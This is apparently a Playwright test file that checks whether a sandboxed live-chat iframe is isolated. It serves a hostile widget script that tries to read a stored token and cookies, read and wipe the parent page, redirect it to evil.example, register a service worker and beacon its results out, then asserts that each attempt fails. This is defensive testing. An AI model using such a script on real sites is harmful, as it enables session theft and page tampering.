import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test as base } from './fixtures.ts';

/** A chat that attempts everything forbidden, and reports each result to its own server. */
const HOSTILE = `
const attempts = {
  'read the token': () => localStorage.getItem('uToken'),
  'read the cookies': () => document.cookie,
  'read the token of the page': () => parent.localStorage.getItem('uToken'),
  'read the page': () => parent.document.body.textContent,
  'change the page': () => { parent.document.body.innerHTML = ''; return 'changed'; },
  'lead the page away': () => { if (top !== self) top.location.href = 'https://evil.example/'; },
  'keep a worker': () => { navigator.serviceWorker.register('/sw.js'); return 'registered'; },
};
const results = {};
for (const [name, attempt] of Object.entries(attempts)) {
  try { results[name] = 'worked: ' + attempt(); } catch (error) { results[name] = error.name; }
}
const elsewhere = fetch('/api/getSiteSetting').then(() => 'worked', error => error.name);
const open = document.createElement('p');
open.textContent = 'How can I help you?';
document.body.append(open);
for (let word = 0; word < 50; word += 1) parent.postMessage({ liveChat: { toString: 0 }, type: 'logout', word }, '*');
elsewhere.then(end => {
  results['call the provider'] = end;
  const script = document.currentScript ?? document.querySelector('script[src*=widget]');
  navigator.sendBeacon(new URL('/results', script.src), JSON.stringify(results));
});
`;

interface Chat {
  /** The address of the script. */
  script: string;
  /** The results that the script sent to its server. */
  results: () => Record<string, string> | null;
}

/** Serves the chat from a separate origin. */
async function serveChat(path: string): Promise<{ server: Server; chat: Chat }> {
  let results: Record<string, string> | null = null;
  const server = createServer((request, reply) => {
    if (request.url === '/results') {
      let body = '';
      request.on('data', piece => (body += piece));
      request.on('end', () => {
        results = JSON.parse(body) as Record<string, string>;
        reply.end();
      });
    } else if (request.url === '/widget.js') reply.setHeader('content-type', 'text/javascript').end(HOSTILE);
    // Other requests are never answered: a chat that does not load.
  });
  await new Promise<void>(listening => server.listen(0, '127.0.0.1', listening));
  const script = `http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`;
  return { server, chat: { script, results: () => results } };
}

const test = base.extend<{ chat: Chat; path: string }>({
  path: ['/widget.js', { option: true }],
  chat: async ({ path }, use) => {
    const { server, chat } = await serveChat(path);
    await use(chat);
    server.closeAllConnections();
    server.close();
  },
  settings: async ({ chat }, use) => use({ liveChat: chat.script }),
});

test.use({ serviceWorkers: 'allow' });

// Mutation check: allow-same-origin for the frame, in the page and in the policy, must fail this test.
test('a hostile chat reads no data of the app and breaks nothing', async ({ page, chat, tolerate }) => {
  tolerate(/evil\.example|Content Security Policy|Content-Security-Policy|sandbox/i);
  await page.addInitScript(() => {
    if (window === window.top) localStorage.setItem('uToken', 'A'.repeat(43));
  });
  await page.goto('/contact');
  await page.getByRole('main').getByRole('link', { name: 'Customer Support' }).click();
  await expect(page.frameLocator('iframe[title="Live chat"]').getByText('How can I help you?')).toBeVisible();
  await expect.poll(chat.results).not.toBeNull();
  expect(chat.results()).toEqual({
    'read the token': 'SecurityError',
    'read the cookies': 'SecurityError',
    'read the token of the page': 'SecurityError',
    'read the page': 'SecurityError',
    'change the page': 'SecurityError',
    // The browser may refuse without an error; a check below shows that the page stays.
    'lead the page away': expect.stringMatching(/^(SecurityError|worked: undefined)$/),
    'keep a worker': expect.stringMatching(/Error$/),
    'call the provider': 'TypeError',
  });

  await expect(page).toHaveURL(/\/helpline$/);
  await expect(page.getByRole('heading', { level: 1, name: 'Customer Support' })).toBeVisible();
  await page.getByRole('button', { name: 'Translate' }).click();
  await page.getByRole('menuitemradio', { name: 'Deutsch' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Kundendienst' })).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem('uToken'))).toBe('A'.repeat(43));
});

// Mutation check: a policy of the document without `sandbox` must fail this test.
test('opened by its own address the chat is not a page of the app either', async ({ page, chat, tolerate }) => {
  tolerate(/evil\.example|Content Security Policy|Content-Security-Policy|sandbox/i);
  await page.goto('/');
  // On later visits the service worker answers the app's pages; it must not answer this one.
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
  await page.goto('/chat-frame');
  await expect(page.getByText('How can I help you?')).toBeVisible();
  await expect.poll(chat.results).not.toBeNull();
  expect(chat.results()).toMatchObject({ 'read the token': 'SecurityError', 'call the provider': 'TypeError' });
});

test.describe('a chat that does not load', () => {
  test.use({ path: '/never.js' });

  test('is replaced by the other channels after ten seconds', async ({ page }) => {
    await page.clock.install();
    await page.goto('/helpline');
    await expect(page.locator('iframe[title="Live chat"]')).toBeAttached();
    await page.clock.runFor(10_000);
    await expect(page.getByText('Live chat couldn’t be loaded. Here’s how to reach us.')).toBeVisible();
    await expect(page.getByRole('link', { name: 'Email' })).toHaveAttribute('href', /^mailto:/);
    await expect(page.locator('iframe')).toHaveCount(0);
  });
});
